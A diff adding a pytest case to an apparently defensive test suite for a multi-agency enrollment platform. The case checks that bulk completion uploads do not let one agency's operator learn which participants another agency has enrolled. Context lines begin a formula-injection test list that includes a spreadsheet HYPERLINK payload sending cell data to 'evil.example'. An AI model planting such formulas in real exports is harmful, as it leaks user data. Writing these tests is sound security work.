@@ -111,6 +111,17 @@ def test_an_operators_bulk_upload_enrols_only_asn_registered_in_its_agency_row_b
     assert rows[0]["accepted"] and _agency_of(platform, nip(711)) == {OWN}
 
 
+def test_an_operators_bulk_completion_answers_another_agencys_participant_as_not_enrolled(platform):
+    """No enumeration through completions: a DINKES participant of the programme and an NIP
+    nobody enrolled get the same row answer in a DISKOMINFO operator's upload."""
+    text = f"nip,score\n{platform.other_nip},90\n{nip(712)},90\n"
+    response = platform.call("enrollment", "POST", f"/programmes/{platform.programme}/completions/bulk",
+                             headers={**OWN_OPERATOR, "Content-Type": "text/csv"}, data=text.encode())
+    rows, _ = _rows(response)
+    assert [r["accepted"] for r in rows] == [False, False]
+    assert {(r["field"], r["reason"]) for r in rows} == {("nip", f"not enrolled in {platform.programme}")}
+
+
 # -- 2. formula injection at input --------------------------------------------------------------------
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+62 812", "-2+3", "@SUM(A1:A2)",
             "\t=1+1", "\r=1+1", " =1+1"]
